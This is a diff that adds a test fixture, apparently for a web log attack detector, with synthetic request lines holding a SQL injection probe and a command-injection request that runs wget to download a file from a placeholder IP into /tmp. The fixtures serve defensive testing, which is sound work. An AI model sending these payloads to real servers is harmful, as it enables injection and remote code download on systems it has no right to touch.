@@ -291,6 +291,17 @@ CORPUS = (
         severity="low",
     ),
     Log(
+        "attacks in the query",
+        (
+            USUAL
+            + line(BAD, "/item?id=1%27+OR+%271%27=%271")
+            + line(WORSE, "/shell?cd+/tmp;wget+http://198.51.100.9/x", 404)
+        ).encode(),
+        frozenset({BAD, WORSE}),
+        got=frozenset({"/item?id=1%27+OR+%271%27=%271"}),
+        severity="high",
+    ),
+    Log(
         "an allowed scanner",
         (USUAL + TRIED).encode(),
         named=BLOCKED,
